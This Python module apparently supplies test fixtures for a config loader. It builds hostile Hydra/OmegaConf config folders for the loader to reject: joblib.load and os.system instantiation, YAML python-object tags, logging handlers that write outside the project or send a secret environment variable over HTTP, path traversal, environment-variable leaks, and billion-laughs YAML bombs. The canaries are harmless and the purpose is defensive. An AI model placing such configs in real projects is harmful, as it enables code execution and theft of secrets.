"""Config folders that a stranger might send: what each file says, and what it is after.

``FOLDERS`` maps the name of an attack to the files of its folder, all below ``own/``. In each,
``experiment=mine`` is what the person chooses, unless ``WORDS`` has other words for it. ``CANARY``
is what code would make if it ran, ``SECRET`` the environment variable that must not be seen, and
``../outside`` holds files that must not change.
"""

from __future__ import annotations

CANARY = "ran"
SECRET = "UIDS_TEST_SECRET"

G = "# @package _global_\n"
MINE = "experiment/mine.yaml"
LAUNCHER = "_target_: hydra._internal.core_plugins.basic_launcher.BasicLauncher\n"
SWEEPER = "_target_: hydra._internal.core_plugins.basic_sweeper.BasicSweeper\n"
LOAD = "{_target_: joblib.load, filename: own/evil.pickle}"
COPY = "{_target_: shutil.copyfile, src: own/evil.pickle, dst: ../outside/report.html}"
HANDLER = "{class: logging.FileHandler, filename: ../outside/report.html, mode: w}"
SEND = (
    "{class: logging.handlers.HTTPHandler, host: 127.0.0.1:9, url: '/${oc.env:UIDS_TEST_SECRET}'}"
)

# What a file may not say of Hydra: the path of a key below ``hydra``, and its value.
KEYS = {
    "a callback": ("callbacks", f"{{x: {LOAD}}}"),
    "a file handler of the job": ("job_logging.handlers.x", HANDLER),
    "a network handler of the job": ("job_logging.handlers.x", SEND),
    "a factory of the job": ("job_logging.handlers.x", "{(): os.system, command: touch ran}"),
    "a file handler of Hydra": ("hydra_logging.handlers.x", HANDLER),
    "a factory of Hydra": ("hydra_logging.formatters.x", "{(): os.system, command: touch ran}"),
    "a launcher": ("launcher", LOAD),
    "a part of the launcher": ("launcher.x", LOAD),
    "an argument of the launcher": ("launcher._args_", f"[{LOAD}, {COPY}]"),
    "a sweeper": ("sweeper", LOAD),
    "a part of the sweeper": ("sweeper.x", COPY),
    "an argument of the sweeper": ("sweeper._args_", f"[{LOAD}]"),
    "the size of a batch": ("sweeper.max_batch_size", LOAD),
    "the mode": ("mode", "MULTIRUN"),
    "the environment": ("job.env_set", "{PATH: own, UIDS_DATA: own}"),
    "a copy of the environment": ("job.env_copy", f"[{SECRET}]"),
    "the name of the job": ("job.name", "../../outside/x"),
    "the working folder": ("job.chdir", "true"),
    "the separator of folder names": ("job.config.override_dirname.item_sep", "/../"),
    "the folder of the record": ("output_subdir", "../../outside"),
    "the folder of the output": ("runtime.output_dir", "../outside"),
    "the search path": ("searchpath", "['file://own2']"),
    "a package on the search path": ("searchpath", "['pkg://evil']"),
    "words of the command line": ("overrides.hydra", "[hydra.output_subdir=../../outside]"),
    "words for the task": ("overrides.task", "[noise=0.1]"),
    "the help": ("help.template", "'${oc.env:UIDS_TEST_SECRET}'"),
    "Hydra's help": ("hydra_help.template", "'${oc.env:UIDS_TEST_SECRET}'"),
    "the verbosity": ("verbose", "true"),
}

# Of a key that may be set: an output folder that is none of the person's own below this one.
OUTSIDE = {
    "absolute": "/tmp/uids-test-outside",
    "above": "../outside",
    "above, on the way": "outputs/../../outside",
    "of the person": "~/outside",
    "hidden": ".git/hooks",
    "hidden, on the way": "outputs/.git",
    "of Windows": "C:\\outside",
    "of Windows, relative": "..\\outside",
    "this one": "'.'",
    "empty": "''",
    "a list": "[outputs]",
    "through a link": "own/link",
    "through a link, further": "own/link/deeper",
    "where other files are": "project",
    "a file": "project/report.html",
    "in the pattern of the time": "'${now:../outside}'",
    "by a reference": "'outputs/${dataset.train}'",
    "of an environment variable": "'outputs/${oc.env:UIDS_TEST_SECRET}'",
    "of a reference to be read twice": "'outputs/${final}{oc.env:UIDS_TEST_SECRET}'",
}

# Values that would show an environment variable, if they were resolved.
ENV = "${oc.env:UIDS_TEST_SECRET}"
LEAKS = {
    "plain": f"'{ENV}'",
    "within text": f"'a-{ENV}-b'",
    "with a default": "'${oc.env:UIDS_TEST_SECRET,x}'",
    "with spaces": "'${ oc.env : UIDS_TEST_SECRET }'",
    "escaped": '"\\x24{oc.env:UIDS_TEST_SECRET}"',
    "escaped in Unicode": '"\\u0024\\u007boc.env:UIDS_TEST_SECRET}"',
    "quoted": "'${oc.env:\"UIDS_TEST_SECRET\"}'",
    "decoded": "'${oc.decode:${oc.env:UIDS_TEST_SECRET}}'",
    "created": "'${oc.create:${oc.env:UIDS_TEST_SECRET}}'",
    "deprecated": "'${oc.deprecated:noise}'",
    "selected": "'${oc.select:hydra.job.env_set}'",
    "of a dictionary": "'${oc.dict.values:hydra.runtime}'",
    "by the older name": "'${env:UIDS_TEST_SECRET}'",
    "of Hydra": "'${hydra:runtime.cwd}'",
    "of Hydra, by its key": "'${hydra.runtime.config_sources}'",
    "of Hydra, relatively": "'${..hydra.runtime.cwd}'",
    "of Hydra, in brackets": "'${hydra[runtime][cwd]}'",
    "in a reference": "'${sampler.${oc.env:UIDS_TEST_SECRET}}'",
    "behind a backslash": "'\\\\${oc.env:UIDS_TEST_SECRET}'",
    "after an open one": "'${${oc.env:UIDS_TEST_SECRET}'",
}

# An axis of a sweep, as hydra.sweeper.params and sweep.grids have it.
AXES = {
    "of Hydra": "hydra.output_subdir: ../../outside",
    "added to Hydra": "+hydra.job_logging.handlers.x.filename: ../outside/report.html",
    "forced on Hydra": "++hydra.launcher._target_: joblib.load",
    "taken from Hydra": "'~hydra.job_logging': ''",
    "a group of Hydra": "hydra/launcher: evil",
    "an added group of Hydra": "+hydra/callbacks: evil",
    "the whole of Hydra": "hydra: '{launcher: {_target_: joblib.load}}'",
    "a package": "sampler@hydra.launcher: sigmoid",
    "the search path": "hydra.searchpath: '[file://own2]'",
    "a sweep": "sweep.grids: '[{hydra/launcher: evil}]'",
    "an unknown key": "_target_: os.system",
    "an odd key": "'noise=0 hydra.mode': MULTIRUN",
    "a variable": f"noise: '{ENV}'",
    "a variable, escaped": "split.kind: '$\\{oc.env\\:UIDS_TEST_SECRET\\}'",
    "a variable, quoted": "split.kind: \"'${oc.env:UIDS_TEST_SECRET}'\"",
    "a variable in a list": f"choose.ratios: ['{ENV}']",
    "a file above": "experiment: ../../../own2/mine",
    "a component above": "sampler: ../../own2/mine",
    "a mapping": "sampler: {_target_: os.system}",
}


def nested(path: str, value: str) -> str:
    """``a.b`` and its value as YAML in one line."""
    for key in reversed(path.split(".")):
        value = f"{{{key}: {value}}}"
    return value


def at_the_top(path: str, value: str) -> dict[str, str]:
    return {MINE: f"{G}repeats: 1\nhydra: {nested(path, value)}\n"}


def in_a_package(path: str, value: str) -> dict[str, str]:
    group, _, key = path.rpartition(".")
    return {MINE: f"# @package hydra{'.' * bool(group)}{group}\n{key}: {value}\n"}


def in_a_package_anew(path: str, value: str) -> dict[str, str]:
    return {MINE: f"# @package sampler._global_.hydra\n{nested(path, value)[1:-1]}\n"}


def in_a_preset(path: str, value: str) -> dict[str, str]:
    return {
        MINE: f"{G}defaults:\n  - override /sampler: mine\n",
        "sampler/mine.yaml": f"{G}hydra: {nested(path, value)}\n",
    }


def in_another_file(path: str, value: str) -> dict[str, str]:
    return {
        MINE: f"{G}defaults:\n  - base\n  - _self_\nrepeats: 1\n",
        "experiment/base.yaml": f"{G}hydra: {nested(path, value)}\n",
    }


def in_a_file_placed_there(path: str, value: str) -> dict[str, str]:
    return {
        MINE: f"{G}defaults:\n  - /base@hydra: x\n  - _self_\n",
        "base/x.yaml": nested(path, value)[1:-1] + "\n",
    }


PLACES = (
    *(at_the_top, in_a_package, in_a_package_anew, in_a_preset, in_another_file),
    in_a_file_placed_there,
)


def keys_of_hydra() -> dict[str, dict[str, str]]:
    """Each of ``KEYS`` at the top, and by turns in another place."""
    made = {}
    for number, (name, (path, value)) in enumerate(KEYS.items()):
        for place in (at_the_top, PLACES[1 + number % (len(PLACES) - 1)]):
            made[f"{name}, {place.__name__}"] = place(path, value)
    for place in PLACES[1:]:
        made[f"the launcher again, {place.__name__}"] = place("launcher.y", COPY)
    return made


def groups_of_hydra() -> dict[str, dict[str, str]]:
    made = {}
    bodies = {
        "launcher": f"{LAUNCHER}x: {LOAD}\n",
        "sweeper": f"{SWEEPER}x: {LOAD}\n",
        "job_logging": f"version: 1\nhandlers: {{x: {HANDLER}}}\n",
        "hydra_logging": f"version: 1\nhandlers: {{x: {HANDLER}}}\n",
        "callbacks": f"x: {LOAD}\n",
        "help": "template: ${oc.env:UIDS_TEST_SECRET}\n",
        "hydra_help": "template: ${oc.env:UIDS_TEST_SECRET}\n",
        "output": f"{G}hydra: {{output_subdir: ../../outside}}\n",
        "env": f"{G}hydra: {{callbacks: {{x: {LOAD}}}}}\n",
    }
    for group, body in bodies.items():
        word = "" if group == "callbacks" else "override "
        made[f"the group {group}"] = {
            MINE: f"{G}defaults:\n  - {word}/hydra/{group}: evil\n",
            f"hydra/{group}/evil.yaml": body,
        }
    for name, part in {"arguments": f"_args_: [{LOAD}]", "a copy": f"x: {COPY}"}.items():
        for group, target in {"launcher": LAUNCHER, "sweeper": SWEEPER}.items():
            made[f"the group {group} with {name}"] = {
                MINE: f"{G}defaults:\n  - override /hydra/{group}: evil\n",
                f"hydra/{group}/evil.yaml": f"{target}{part}\n",
            }
    for name in ("launcher/basic", "sweeper/basic", "config"):
        body = bodies.get(name.split("/")[0], f"launcher: {LOAD}\n")
        made[f"in the place of hydra/{name}"] = {MINE: G, f"hydra/{name}.yaml": body}
    return made


def output_folders() -> dict[str, dict[str, str]]:
    start = f"{G}dataset: {{train: ../../outside}}\nfinal: $\n"
    return {
        f"a folder {name}": {
            MINE: f"{start}hydra: {{run: {{dir: {value}}}, sweep: {{dir: {value}}}}}\n"
            if "reference" in name
            else f"{G}hydra: {{run: {{dir: {value}}}, sweep: {{dir: {value}}}}}\n"
        }
        for name, value in OUTSIDE.items()
    }


def leaks() -> dict[str, dict[str, str]]:
    made = {}
    for name, value in LEAKS.items():
        made[f"a value {name}"] = {MINE: f"{G}split: {{kind: {value}}}\n"}
    for name in ("plain", "decoded", "escaped"):
        preset = f"defaults:\n  - sigmoid\n  - _self_\nalpha: {LEAKS[name]}\n"
        made[f"a preset's value {name}"] = {
            MINE: f"{G}defaults:\n  - override /sampler: mine\n",
            "sampler/mine.yaml": preset,
        }
    plain = LEAKS["plain"]
    made["a choice by a variable"] = {MINE: f"{G}defaults:\n  - override /sampler: {plain}\n"}
    made["a key by a variable"] = {MINE: f"{G}model: {{{plain}: 1}}\n"}
    made["a report by a variable"] = {MINE: f"{G}sweep: {{report: {plain}}}\n"}
    made["grids by a reference"] = {MINE: f"{G}sweep: {{grids: '${{dataset}}'}}\n"}
    return made


def axes() -> dict[str, dict[str, str]]:
    made = {}
    for name, axis in AXES.items():
        made[f"an axis {name}"] = {MINE: f"{G}hydra:\n  sweeper:\n    params:\n      {axis}\n"}
        made[f"a grid {name}"] = {MINE: f"{G}sweep:\n  grids:\n    - {axis}\n"}
    for name, handler in {"a file": HANDLER, "the network": SEND}.items():
        params = f'{{params: {{+hydra.job_logging.handlers.x: "{handler}"}}}}'
        made[f"the mode, and an axis to {name}"] = {
            MINE: f"{G}hydra:\n  mode: MULTIRUN\n  sweeper: {params}\n"
        }
    return made


def laughs(start: str, link: str) -> str:
    lines = [f"a0: &a0 {start}"]
    for i in range(1, 12):
        lines.append(f"a{i}: &a{i} " + link.format(",".join([f"*a{i - 1}"] * 9)))
    return G + "\n".join(lines) + "\n"


def texts() -> dict[str, dict[str, str | bytes]]:
    bombs: dict[str, str | bytes] = {
        "a billion laughs": laughs("[x,x]", "[{}]"),
        "a billion laughs in mappings": laughs("{x: y}", "{{k: [{}]}}"),
        "a billion laughs by merging": laughs("{x: y}", "{{<<: [{}]}}"),
        "an alias of itself": f"{G}model: &a {{x: *a}}\n",
        "an alias of nothing": f"{G}model: *a\n",
        "brackets": G + "model: " + "[" * 200_000,
        "braces": G + "model: " + "{a: " * 100_000,
        "a long number": f"{G}noise: {'9' * 500_000}\n",
        "a long number in base 60": f"{G}noise: {'1:' * 200_000}1\n",
        "many keys": G + "".join(f"k{i}: 1\n" for i in range(50_000)),
        "a large file": G + "#" * 2**21,
        "references that double": G
        + "sweep: {grids: [{"
        + ", ".join(f"k{i}: '${{sweep.grids.0.k{i + 1}}}' " for i in range(40))
        + "}]}\n",
        "references in references": f"{G}noise: '{'${a' * 2000}'\n",
        "many references": G + "noise: '" + "${noise}" * 5000 + "'\n",
        "a reference to itself": f"{G}noise: ${{noise}}\n",
        "no UTF-8": G.encode() + b"noise: \xff\xfe\n",
        "control characters": f'{G}"\\e[2J\\e]0;x\\a": 1\n',
        "no mapping": f"{G}- a\n",
        "a sentence": f"{G}run this\n",
        "no YAML": f"{G}a: [\n",
        "two documents": f"{G}noise: 0.1\n---\nnoise: 0.2\n",
    }
    tags = {
        "apply": "!!python/object/apply:os.system ['touch ran']",
        "new": "!!python/object/new:os.system ['touch ran']",
        "name": "!!python/name:os.system",
        "module": "!!python/module:os",
        "of one's own": "!evil x",
        "binary": "!!binary cmFu",
    }
    bombs |= {f"the tag {name}": f"{G}noise: {tag}\n" for name, tag in tags.items()}
    for word in ("_target_", "_args_", "_partial_", "_recursive_", "_convert_"):
        bombs[f"a component's {word}"] = f"{G}model: {{{word}: joblib.load, filename: x}}\n"
        bombs[f"{word} at the top"] = f"{G}{word}: joblib.load\n"
    return {name: {MINE: text} for name, text in bombs.items()}


def defaults() -> dict[str, dict[str, str]]:
    entries = {
        "a file above": "/../../../own2/mine",
        "a file above, relatively": "../../own2/mine",
        "an experiment above": "override /sampler: ../../../own2/mine",
        "a group above": "/../hydra/launcher: evil",
        "Hydra's own": "/hydra/job_logging/disabled",
        "a group of Hydra's own": "override /hydra/job_logging: none",
        "an optional group of Hydra's": "optional /hydra/launcher: evil",
        "a list of Hydra's": "/hydra/callbacks: [evil]",
        "placed in Hydra": "/sampler@hydra.launcher: sigmoid",
        "placed in Hydra by a file": "base@hydra: x",
        "Hydra placed here": "/hydra@_here_: config",
        "placed anew": "/sampler@_global_.hydra.launcher: sigmoid",
        "by a tab": '"override\\t/hydra/launcher": evil',
        "by a reference": "/${sampler.name}/launcher: evil",
        "a number": "3",
    }
    return {f"defaults with {n}": {MINE: f"{G}defaults:\n  - {e}\n"} for n, e in entries.items()}


FOLDERS: dict[str, dict[str, str | bytes]] = {
    **keys_of_hydra(),
    **groups_of_hydra(),
    **output_folders(),
    **leaks(),
    **axes(),
    **texts(),
    **defaults(),
    "no package": {MINE: "noise: 0.1\n"},
    "an unknown package": {MINE: "# @package nowhere\nx: 1\n"},
    "a package within a sweep": {MINE: "# @package sweep.grids\nx: 1\n"},
    "hydra is null": {MINE: f"{G}hydra: null\n"},
    "hydra is a reference": {MINE: f"{G}hydra: ${{sampler}}\n"},
    "a shadowed sampler": {MINE: G, "sampler/sigmoid.yaml": "defaults: [random, _self_]\n"},
    "a shadowed data set": {MINE: G, "dataset/breast_cancer.yaml": "name: csv\n"},
    "a shadowed experiment": {MINE: G, "experiment/table.yaml": f"{G}noise: 0.4\n"},
    "a shadowed root": {MINE: G, "config.yaml": f"hydra: {{launcher: {LOAD}}}\n"},
}

# Files that Hydra never asks for: its own of that name win, or nothing chooses them.
UNUSED = {
    "hydra/env/default": {"hydra/env/default.yaml": f"{G}hydra: {{callbacks: {{x: {LOAD}}}}}\n"},
    "hydra/job_logging/default": {
        "hydra/job_logging/default.yaml": f"handlers: {{x: {HANDLER}}}\n"
    },
    "a launcher": {"hydra/launcher/evil.yaml": f"{LAUNCHER}x: {LOAD}\n"},
    "Python": {"__init__.py": "open('ran', 'w')\n", "conftest.py": "open('ran', 'w')\n"},
}

# Without the experiment: a preset alone, or a word of Hydra's for a file of the folder.
WORDS = {
    "the group launcher": [["hydra/launcher=evil"]],
    "the group job_logging": [["hydra/job_logging=evil"]],
    "a preset's value plain": [["sampler=mine"]],
}
